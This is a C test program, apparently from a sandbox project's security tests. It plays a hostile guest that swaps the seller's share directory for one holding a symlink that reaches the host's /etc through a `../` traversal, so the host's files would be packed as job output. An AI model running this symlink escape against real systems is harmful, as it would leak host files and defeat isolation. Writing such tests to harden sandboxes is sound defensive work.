/* An attack on the seller, for tests: the guest owns its scratch
 * directory, so it renames the seller's `.shares` away, makes its own, and
 * puts a symlink where its writable share `/out` was (`rw-` + hex of
 * "/out"), pointing at a host directory (argv[1], default the host's
 * /etc, reached from the seller's side of the jail). Then it exits 0, so a
 * seller that trusted the layout would pack host files as "the outputs". */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "../../../../../../../../../../etc";
    if (rename("/scratch/.shares", "/scratch/.moved") != 0) {
        perror("rename .shares");
        return 2;
    }
    if (mkdir("/scratch/.shares", 0700) != 0) {
        perror("mkdir .shares");
        return 3;
    }
    if (symlink(target, "/scratch/.shares/rw-2f6f7574") != 0) {
        perror("symlink");
        return 4;
    }
    printf("share layout swapped\n");
    return 0;
}
